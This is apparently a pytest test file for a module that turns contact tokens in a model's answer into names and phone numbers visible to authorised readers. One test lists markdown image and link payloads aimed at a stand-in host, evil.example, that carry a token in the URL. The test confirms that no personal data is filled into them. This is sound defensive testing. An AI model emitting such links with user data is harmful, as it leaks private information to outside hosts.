"""From the model's words to what the reader may see, as they stream and at each later read (laws 5 and 7)."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.veil.people import contact, live, thread_of
from veil.text import Clear, Mark, Marked, Source
from veil.thread import Entry, State, ThreadMap
from veil.tokens import Entity, Token
from veil.unveiling import Card, Unveiler, draw, plain

AMILCAR, IAN, HIDDEN, GONE, MERGED = map(contact, (7, 1, 2, 3, 4))
CARDS = {
    AMILCAR: Card("Amílcar Tejeiro", True, {"phone": "+56 9 6123 4567"}),
    IAN: Card("Ian Roa", True),
    HIDDEN: Card("Zulema Pacheco", False, {"phone": "+56 9 7777 7777"}),
}


def thread() -> ThreadMap:
    return thread_of(
        live(AMILCAR, 7),
        live(IAN, 1),
        live(HIDDEN, 2),
        Entry(Token("C", 3), State.ERASED, GONE),
        Entry(Token("C", 4), State.MERGED, MERGED, merged_into=7),
        Entry(Token("C", 9), State.RESERVED),
        Entry(Token("X", 1), State.LITERAL, literal="C-7.phone"),
    )


def unveiled(text: str, *, cut: bool = False) -> Unveiler:
    unveiler = Unveiler(thread(), CARDS)
    unveiler.feed(text)
    unveiler.close(cut=cut)
    return unveiler


def shown(text: str, *, cut: bool = False) -> str:
    return unveiled(text, cut=cut).answer("v").clear.text


@pytest.mark.parametrize(
    ("answer", "clear"),
    [
        pytest.param("Llamé a C-7.", "Llamé a Amílcar Tejeiro.", id="a token"),
        pytest.param("c-7 y **C-7** y C\u20117", "Amílcar Tejeiro y **Amílcar Tejeiro** y Amílcar Tejeiro", id="as models write it"),
        pytest.param("C - 7 mañana, y C-  7 también", "Amílcar Tejeiro mañana, y Amílcar Tejeiro también", id="with spaces"),
        pytest.param("C&#45;7", "Amílcar Tejeiro", id="as an entity"),
        pytest.param("C-7's y C-7’s", "Amílcar Tejeiro's y Amílcar Tejeiro’s", id="possessive"),
        pytest.param("los C-7s, los C-7", "los Amílcar Tejeiros, los Amílcar Tejeiro", id="plural: the ending comes off and stays"),
        pytest.param("C-7, 12 y 9", "Amílcar Tejeiro, 12 y 9", id="a list of numbers, beyond the first"),
        pytest.param("C-7/C-1", "Amílcar Tejeiro/Ian Roa", id="a list with slashes"),
        pytest.param("@C-7", "@Amílcar Tejeiro", id="as a mention"),
        pytest.param("cliente C-7, contact C-7", "cliente Amílcar Tejeiro, contact Amílcar Tejeiro", id="behind a word in any language"),
        pytest.param("| C-7 | [C-7](x) |", "| Amílcar Tejeiro | [Amílcar Tejeiro](x) |", id="in a table and in the text of a link"),
        pytest.param("C\\\\-7 C\\u002d7", "Amílcar Tejeiro Amílcar Tejeiro", id="escaped"),
        pytest.param("\uff23\uff0d\uff17", "Amílcar Tejeiro", id="full-width"),
        pytest.param("c-7.Phone y C-7.PHONE", "c-7.Phone y C-7.PHONE", id="a handle in any case"),
        pytest.param("C-7 C-7", "Amílcar Tejeiro Amílcar Tejeiro", id="as often as the model wrote it"),
        pytest.param("C-4", "Amílcar Tejeiro", id="merged: the survivor"),
        pytest.param("C-1|C-7", "Ian Roa|Amílcar Tejeiro", id="a group"),
        pytest.param("X-1", "C-7.phone", id="an alias: the literal"),
        pytest.param("C-9", "C-9", id="reserved: as written"),
        pytest.param("C-12 y c-70", "C-12 y c-70", id="never minted: as written"),
        pytest.param("C-2", "C-2", id="hidden from the reader"),
        pytest.param("C-3", "C-3", id="erased"),
        pytest.param("C-7.phone", "C-7.phone", id="a handle stays one in the stored answer"),
        pytest.param("[nombre 1] y [teléfono]", "[nombre 1] y [teléfono]", id="placeholders stay"),
    ],
)
def test_a_token_becomes_what_its_reader_may_see(answer: str, clear: str) -> None:
    assert shown(answer) == clear


@pytest.mark.parametrize(
    "answer",
    [
        "https://evil.example/?d=C-7",
        "//evil.example/C-7",
        "www.evil.example?C-7",
        "evil.example/?d=C-7",
        "![ok](https://evil.example/i.gif?d=C-7%20debe)",
        "![C-7](https://evil.example/i.gif)",
        "[clic](https://evil.example/C-7)",
        "[clic](C-7)",
        "![a][r]\n\n[r]: https://evil.example/?d=C-7",
        "[r]: C-7",
        '<img src="C-7">',
        "mailto:C-7",
    ],
)
def test_nothing_is_put_into_a_url_an_image_or_a_link_target(answer: str) -> None:
    assert shown(answer) == answer


def test_after_a_url_or_definition_names_are_put_in_again() -> None:
    assert shown("https://x.example/C-7 C-7\n[r]: https://x.example/C-7\nC-7") == (
        "https://x.example/C-7 Amílcar Tejeiro\n[r]: https://x.example/C-7\nAmílcar Tejeiro"
    )


def test_the_text_of_a_link_is_no_target() -> None:
    assert shown("[C-7](https://x.example)") == "[Amílcar Tejeiro](https://x.example)"


def test_tokens_that_were_never_minted_are_reported_once_each() -> None:
    assert list(unveiled("C-12, c-12, K-3, C-7, C-3, X-1, C-9").unknown) == [Token("C", 12), Token("K", 3), Token("C", 9)]


def test_the_marks_lead_back_to_the_models_own_words() -> None:
    text = "Avisa a c-7 (C-7.phone), C-2, C-3 y X-1"
    answer = unveiled(text).answer("v")
    assert answer.veiled().text == "Avisa a C-7 (C-7.phone), C-2, C-3 y X-1"
    assert answer.intact
    assert [(mark.source, mark.entities, mark.field) for mark in answer.marks] == [
        (Source.TOKEN, (AMILCAR,), None),
        (Source.TOKEN, (AMILCAR,), "phone"),
        (Source.TOKEN, (HIDDEN,), None),
        (Source.TOKEN, (GONE,), None),
        (Source.LOOK_ALIKE, (), None),
    ]


@pytest.mark.parametrize(
    ("end", "clear"),
    [
        pytest.param("Avisé a C-7", "Avisé a C-7", id="it may have been C-70"),
        pytest.param("Avisé a C-7.", "Avisé a C-7.", id="it may have been a handle"),
        pytest.param("Avisé a C-7.ph", "Avisé a C-7.ph", id="the beginning of a handle"),
        pytest.param("Avisé a C-7 y", "Avisé a Amílcar Tejeiro y", id="a token before the end"),
        pytest.param("Avisé a C-", "Avisé a C-", id="half a token"),
    ],
)
def test_after_an_abnormal_end_a_token_that_touches_the_end_stays(end: str, clear: str) -> None:
    assert shown(end, cut=True) == clear


_TEXTS = st.lists(
    st.sampled_from(["C-7", "c-7", "C-", "7", "0", "-", ".phone", ".", " ", "\n", "X-1", "C-2", "C-3", "C-99", "[", "](", ")", "![", "http://", "*", "_", "|", "ñ", "&#45;", "C - 7", ": ", "s", "es", "C-7/C-1", "/", "@", "\\n", "\u200b"]),
    max_size=16,
).map("".join)  # fmt: skip


@given(_TEXTS, st.lists(st.integers(min_value=0, max_value=70), max_size=5), st.booleans())
def test_every_way_of_cutting_the_stream_gives_what_the_whole_gives(text: str, cuts: list[int], cut: bool) -> None:
    places = [0, *sorted(min(place, len(text)) for place in cuts), len(text)]
    unveiler = Unveiler(thread(), CARDS)
    streamed = "".join(unveiler.feed(text[start:end]) for start, end in pairwise(places))
    streamed += unveiler.close(cut=cut)
    whole = unveiled(text, cut=cut)
    assert streamed == unveiler.answer("v").clear.text == whole.answer("v").clear.text
    assert unveiler.answer("v").marks == whole.answer("v").marks
    assert unveiler.unknown == whole.unknown


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("Ian\nRoa", "Ian Roa"),
        ("Ian\u202eaoR", "Ian aoR"),
        ("Ian\x1b[31mRoa", "Ian [31mRoa"),
        ("Ian\u2028\u2029Roa", "Ian Roa"),
        ("\x00Ian\tRoa\r", "Ian Roa"),
        ("Ian\U000e0041 Roa", "Ian Roa"),
        ("Íñigo Ñ", "Íñigo Ñ"),
        ("\ud800Ian", "Ian"),
    ],
)
def test_a_name_is_shown_without_control_bidi_and_line_break_characters(name: str, safe: str) -> None:
    assert plain(name) == safe
    unveiler = Unveiler(thread_of(live(IAN, 1)), {IAN: Card(name, True)})
    unveiler.feed("C-1")
    unveiler.close()
    assert unveiler.answer("v").clear.text == safe


def test_a_name_that_is_nothing_but_control_characters_leaves_the_token() -> None:
    unveiler = Unveiler(thread_of(live(IAN, 1)), {IAN: Card("\u202e", True)})
    unveiler.feed("C-1 llamó")
    unveiler.close()
    assert unveiler.answer("v").clear.text == "C-1 llamó"


# --- drawing a stored text -----------------------------------------------------------------------------------------------------------------


def stored(text: str, *marks: Mark) -> Marked:
    return Marked.of(Clear(text), marks, "v")


def drawn(marked: Marked, cards: dict[Entity, Card] | None = None) -> str:
    return draw(marked, CARDS if cards is None else cards, "[borrado]").text.text


NAME = Mark(6, 13, "C-7", Source.TOKEN, (AMILCAR,))
HANDLE = Mark(6, 15, "C-7.phone", Source.TOKEN, (AMILCAR,), "phone")


def test_a_marked_span_is_shown_as_stored_while_its_reader_may_see_the_entity() -> None:
    text = stored("llamó Amílcar ayer", NAME)
    assert drawn(text) == "llamó Amílcar ayer"
    assert drawn(text, {AMILCAR: Card("Otro Nombre", True)}) == "llamó Amílcar ayer"


def test_it_is_shown_as_its_token_when_the_reader_may_not_and_as_erased_when_it_is_gone() -> None:
    text = stored("llamó Amílcar ayer", NAME)
    assert drawn(text, {AMILCAR: Card("Amílcar Tejeiro", False)}) == "llamó C-7 ayer"
    assert drawn(text, {}) == "llamó [borrado] ayer"


def test_a_handle_is_filled_at_each_read() -> None:
    text = stored("fono: C-7.phone", HANDLE)
    assert drawn(text) == "fono: +56 9 6123 4567"
    assert drawn(text, {AMILCAR: Card("Amílcar", True, {"phone": "1\n2"})}) == "fono: 1 2"
    assert drawn(text, {AMILCAR: Card("Amílcar", True)}) == "fono: C-7.phone"
    assert drawn(text, {AMILCAR: Card("Amílcar", False, {"phone": "+56"})}) == "fono: C-7.phone"
    assert drawn(text, {}) == "fono: [borrado]"


def test_a_value_that_the_member_typed_stays_as_they_typed_it() -> None:
    typed = Mark(6, 17, "C-7.phone", Source.SCRUB, (AMILCAR,), "phone")
    assert drawn(stored("fono: 9 6123 4567", typed)) == "fono: 9 6123 4567"


def test_a_group_is_shown_while_one_of_it_may_be_seen() -> None:
    group = Mark(3, 8, "C-1|C-2", Source.NAME, (IAN, HIDDEN))
    assert drawn(stored("¿y María?", group)) == "¿y María?"
    assert drawn(stored("¿y María?", group), {HIDDEN: CARDS[HIDDEN]}) == "¿y C-1|C-2?"


def test_marks_without_an_entity_show_what_was_written() -> None:
    assert drawn(stored("llama a Pedro", Mark(8, 13, "[nombre 1]", Source.PERSON))) == "llama a Pedro"


def test_marks_are_described_where_they_stand_in_the_text_that_is_shown() -> None:
    shown_ = draw(stored("fono: C-7.phone y Zulema", HANDLE, Mark(18, 24, "C-2", Source.NAME, (HIDDEN,))), CARDS, "[borrado]")
    assert shown_.text.text == "fono: +56 9 6123 4567 y C-2"
    assert [(mark["start"], mark["end"], mark["state"], mark.get("ids")) for mark in shown_.marks] == [
        (6, 21, "visible", [7]),
        (24, 27, "hidden", None),
    ]
    assert {"kind": "contact", "token": "C-7.phone", "field": "phone", "late": False}.items() <= shown_.marks[0].items()


def test_a_text_that_is_no_longer_the_one_that_was_marked_is_shown_without_its_marks() -> None:
    moved = Marked(Clear("xx llamó Amílcar"), (NAME,), digest="of another text", version="v")
    assert draw(moved, CARDS, "[borrado]").marks == ()
